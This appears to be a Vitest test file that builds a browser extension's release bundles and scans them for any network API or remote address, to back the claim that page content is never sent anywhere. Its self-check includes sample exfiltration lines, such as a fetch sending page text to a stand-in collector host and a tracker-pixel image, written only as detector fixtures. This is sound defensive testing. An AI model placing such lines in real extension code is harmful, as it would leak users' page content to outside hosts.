// @vitest-environment node
/**
 * "The extension never sends page content anywhere: no network calls at all at run time."
 * A test that visits pages sees only the paths it takes; this reads everything the extension
 * ships (the release build of both browsers, every script, page, stylesheet and manifest) for
 * a way to reach the network: a request API, or an address outside the extension. The one
 * address allowed is Wikipedia's search, which the card offers as a plain link the user may
 * follow. The release build must also hold none of the test build's page probes, which post
 * what the card shows to the page's own window.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, relative } from "node:path";
import { fileURLToPath } from "node:url";

const root = join(dirname(fileURLToPath(import.meta.url)), "../../..");

/** Every API a script could reach the network with. `fetch` is listed too: the extension has
 *  no use for it today; one reading the extension's own files would be allowed here by name. */
const NETWORK_API = /\bfetch\s*\(|\bXMLHttpRequest\b|\bWebSocket\b|\bsendBeacon\b|\bEventSource\b|\bimportScripts\b|\bRTCPeerConnection\b|\bWebTransport\b|\bnavigator\.connection\b/g;
/** An address a browser would contact (a protocol-relative `//host/` in markup or CSS too),
 *  up to a template's `${`: the options page completes a typed site as `https://${line}` only
 *  to read its hostname with new URL(). */
const ADDRESS = /\b(?:https?|wss?|ftp):\/\/[A-Za-z0-9][^\s"'`)<>\\$]*|(?:src|href|action)\s*=\s*["']?\/\/[^\s"'`)<>]+|url\(\s*["']?\/\/[^\s"'`)<>]+/gi;
const ALLOWED_ADDRESS = [
  // the card's 'Look up on Wikipedia' link (an <a href>, opened only by the user)
  /^https:\/\/en\.wikipedia\.org\/wiki\/Special:Search\?search=$/,
  // XML namespace names are identifiers, never requested
  /^http:\/\/www\.w3\.org\/(?:2000\/svg|1999\/xhtml|1998\/Math\/MathML|1999\/xlink)$/,
];

/** What in `text` could reach the network: each finding with a little context. */
function networkFindings(text: string): string[] {
  const out: string[] = [];
  for (const m of text.matchAll(NETWORK_API)) out.push(`${m[0]} in …${text.slice(Math.max(0, m.index - 40), m.index + 60)}…`);
  for (const m of text.matchAll(ADDRESS)) {
    if (!ALLOWED_ADDRESS.some((a) => a.test(m[0]))) out.push(`address ${m[0]}`);
  }
  return out;
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [path];
  });
}

let dist: string;
beforeAll(() => {
  dist = mkdtempSync(join(tmpdir(), "dramatis-no-network-"));
  execFileSync(process.execPath, [join(root, "scripts/build.mjs")], { cwd: root, env: { ...process.env, DRAMATIS_DIST: dist }, stdio: "pipe" });
}, 120_000);
afterAll(() => {
  if (dist) rmSync(dist, { recursive: true, force: true });
});

describe("no network at run time", () => {
  it("the check itself finds a request API, a remote address in markup or CSS, and lets the Wikipedia link pass", () => {
    expect(networkFindings('fetch("https://collector.example/?q="+text)')).toHaveLength(2);
    expect(networkFindings("navigator.sendBeacon(u, body)")).toHaveLength(1);
    expect(networkFindings('el.innerHTML = "<img src=//tracker.example/p.gif>"')).toHaveLength(1);
    expect(networkFindings("background: url(//cdn.example/font.woff2)")).toHaveLength(1);
    expect(networkFindings('const w = (e) => `https://en.wikipedia.org/wiki/Special:Search?search=${encodeURIComponent(e)}`')).toEqual([]);
  });

  it.each(["chrome", "firefox"])("the %s release build has no way to reach the network and no test probe", (browser) => {
    const files = filesUnder(join(dist, browser)).filter((f) => /\.(?:js|mjs|html|css|json)$/.test(f));
    expect(files.map((f) => relative(join(dist, browser), f))).toEqual(expect.arrayContaining(["background.js", "content.js", "content-main.js", "popup.js", "options.js", "manifest.json"]));
    const findings: string[] = [];
    for (const f of files) {
      const text = readFileSync(f, "utf8");
      for (const finding of networkFindings(text)) findings.push(`${relative(dist, f)}: ${finding}`);
      if (text.includes("dramatis-test:")) findings.push(`${relative(dist, f)}: a test-build probe`);
    }
    expect(findings).toEqual([]);
  });
});
